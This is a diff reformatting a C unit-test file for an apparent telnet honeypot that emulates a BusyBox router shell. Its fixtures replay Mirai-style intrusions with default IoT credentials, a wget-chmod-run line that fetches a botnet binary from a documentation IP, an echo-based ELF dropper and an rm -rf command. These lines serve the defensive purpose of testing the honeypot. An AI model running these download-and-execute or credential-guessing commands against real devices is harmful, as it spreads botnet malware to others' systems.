@@ -8,32 +8,33 @@
 #include "test_resp_harness.h"
 
 static const char tx_telnetlib[] =
-	"\377\374\001\377\374\037\377\376\001\377\376\003root\r\n"
-	"xc3511\r\n"
-	"enable\r\n"
-	"/bin/busybox ECCHI\r\n"
-	"cd /tmp; wget http://203.0.113.9/bins/mirai.arm7 -O m; chmod 777 m; ./m telnet.arm7\r\n"
-	"echo -ne '\\x7f\\x45\\x4c\\x46' > .d; echo -ne '\\x01\\x01' >> .d\r\n"
-	"exit\r\n";
+    "\377\374\001\377\374\037\377\376\001\377\376\003root\r\n"
+    "xc3511\r\n"
+    "enable\r\n"
+    "/bin/busybox ECCHI\r\n"
+    "cd /tmp; wget http://203.0.113.9/bins/mirai.arm7 -O m; chmod 777 m; ./m telnet.arm7\r\n"
+    "echo -ne '\\x7f\\x45\\x4c\\x46' > .d; echo -ne '\\x01\\x01' >> .d\r\n"
+    "exit\r\n";
 
 static const char tx_mirai[] =
-	"\377\374\001"                         /* WONT ECHO */
-	"\377\373\037\377\372\037\000\120\000\030\377\360" /* WILL NAWS, SB NAWS 80x24 SE */
-	"\377\375\001\377\375\003"             /* DO ECHO, DO SGA */
-	"\377\373\030"                         /* WILL TTYPE */
-	"\377\372\030\000xterm\377\360"        /* SB TTYPE IS xterm SE */
-	"admin\r\0"                            /* CR NUL */
-	"admin\r\n"
-	"sh\r\n"
-	"echo -e \"\\x41\\x4b\\x34\\x37\"\r\n"
-	"rm -rf x\b\b\b\bchmod\r\n"
-	"\004";
+    "\377\374\001"                                     /* WONT ECHO */
+    "\377\373\037\377\372\037\000\120\000\030\377\360" /* WILL NAWS, SB NAWS 80x24 SE */
+    "\377\375\001\377\375\003"                         /* DO ECHO, DO SGA */
+    "\377\373\030"                                     /* WILL TTYPE */
+    "\377\372\030\000xterm\377\360"                    /* SB TTYPE IS xterm SE */
+    "admin\r\0"                                        /* CR NUL */
+    "admin\r\n"
+    "sh\r\n"
+    "echo -e \"\\x41\\x4b\\x34\\x37\"\r\n"
+    "rm -rf x\b\b\b\bchmod\r\n"
+    "\004";
 
 static const struct resp_config tn_cfg = {.hostname = "router"};
 
 #define NEGOTIATION "\377\375\001\377\375\037\377\373\001\377\373\003"
-#define SHELL_BANNER                                                                        \
-	"\r\nBusyBox v1.30.1 (2019-05-06 11:30:57 UTC) built-in shell (ash)\r\nEnter 'help' for " \
+#define SHELL_BANNER                                                                           \
+	"\r\nBusyBox v1.30.1 (2019-05-06 11:30:57 UTC) built-in shell (ash)\r\nEnter 'help' "  \
+	"for "                                                                                 \
 	"a list of built-in commands.\r\n\r\n"
 
 static void test_telnetlib(void **state)
@@ -61,7 +62,10 @@ static void test_telnetlib(void **state)
 	assert_string_equal(c.pl[0].kind, "telnet_echo_file");
 	assert_string_equal(c.pl[0].name, ".d");
 	assert_int_equal(c.pl[0].len, 6);
-	assert_memory_equal(c.pl[0].data, "\x7f" "ELF\x01\x01", 6);
+	assert_memory_equal(c.pl[0].data,
+	                    "\x7f"
+	                    "ELF\x01\x01",
+	                    6);
 	tr_close(&c);
 }
 
@@ -72,13 +76,13 @@ static void test_mirai_negotiation_and_echo(void **state)
 	assert_int_equal(c.act, RESP_CLOSE);
 	/* WILL TTYPE is taken up and the terminal type asked for; the client's
 	 * keystrokes are echoed once it accepted our WILL ECHO; the password is not */
-	assert_string_equal(tr_out(&c),
-	                    NEGOTIATION "\r\nrouter login: "
-	                                "\377\375\030\377\372\030\001\377\360"
-	                                "admin\r\nPassword: \r\n" SHELL_BANNER "admin@router:~$ "
-	                                "sh\r\nadmin@router:~$ "
-	                                "echo -e \"\\x41\\x4b\\x34\\x37\"\r\nAK47\r\nadmin@router:~$ "
-	                                "rm -rf x\b \b\b \b\b \b\b \bchmod\r\nadmin@router:~$ ");
+	assert_string_equal(tr_out(&c), NEGOTIATION
+	                    "\r\nrouter login: "
+	                    "\377\375\030\377\372\030\001\377\360"
+	                    "admin\r\nPassword: \r\n" SHELL_BANNER "admin@router:~$ "
+	                    "sh\r\nadmin@router:~$ "
+	                    "echo -e \"\\x41\\x4b\\x34\\x37\"\r\nAK47\r\nadmin@router:~$ "
+	                    "rm -rf x\b \b\b \b\b \b\b \bchmod\r\nadmin@router:~$ ");
 	assert_string_equal(tr_str(&c, "telnet.terminal_type"), "xterm");
 	assert_int_equal(tr_int(&c, "telnet.window_width"), 80);
 	assert_int_equal(tr_int(&c, "telnet.window_height"), 24);
@@ -89,17 +93,19 @@ static void test_mirai_negotiation_and_echo(void **state)
 
 static void test_login_reject(void **state)
 {
-	static const char tx[] = "root\r\n123456\r\nadmin\r\nadmin\r\nsupport\r\nsupport\r\nx\r\n";
+	static const char tx[] =
+	    "root\r\n123456\r\nadmin\r\nadmin\r\nsupport\r\nsupport\r\nx\r\n";
 	struct resp_config cfg = tn_cfg;
 	cfg.login_reject = 1;
 	cfg.banner = "Welcome to HG8245H";
 	struct tr_conn c;
 	tr_run_both(&c, &resp_telnet, &cfg, tx, strlen(tx));
 	assert_int_equal(c.act, RESP_CLOSE);
-	assert_string_equal(tr_out(&c), NEGOTIATION "\r\nWelcome to HG8245H\r\nrouter login: "
-	                                            "Password: \r\nLogin incorrect\r\nrouter login: "
-	                                            "Password: \r\nLogin incorrect\r\nrouter login: "
-	                                            "Password: \r\nLogin incorrect\r\n");
+	assert_string_equal(tr_out(&c),
+	                    NEGOTIATION "\r\nWelcome to HG8245H\r\nrouter login: "
+	                                "Password: \r\nLogin incorrect\r\nrouter login: "
+	                                "Password: \r\nLogin incorrect\r\nrouter login: "
+	                                "Password: \r\nLogin incorrect\r\n");
 	assert_int_equal(tr_int(&c, "credentials_count"), 3);
 	assert_string_equal(tr_elem(&c, "credentials_tried", 2, "username"), "support");
 	tr_close(&c);
@@ -188,13 +194,13 @@ static void test_garbage(void **state)
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(test_telnetlib),
-		cmocka_unit_test(test_mirai_negotiation_and_echo),
-		cmocka_unit_test(test_login_reject),
-		cmocka_unit_test(test_iac_edge_cases),
-		cmocka_unit_test(test_timeouts),
-		cmocka_unit_test(test_bounds),
-		cmocka_unit_test(test_garbage),
+	    cmocka_unit_test(test_telnetlib),
+	    cmocka_unit_test(test_mirai_negotiation_and_echo),
+	    cmocka_unit_test(test_login_reject),
+	    cmocka_unit_test(test_iac_edge_cases),
+	    cmocka_unit_test(test_timeouts),
+	    cmocka_unit_test(test_bounds),
+	    cmocka_unit_test(test_garbage),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
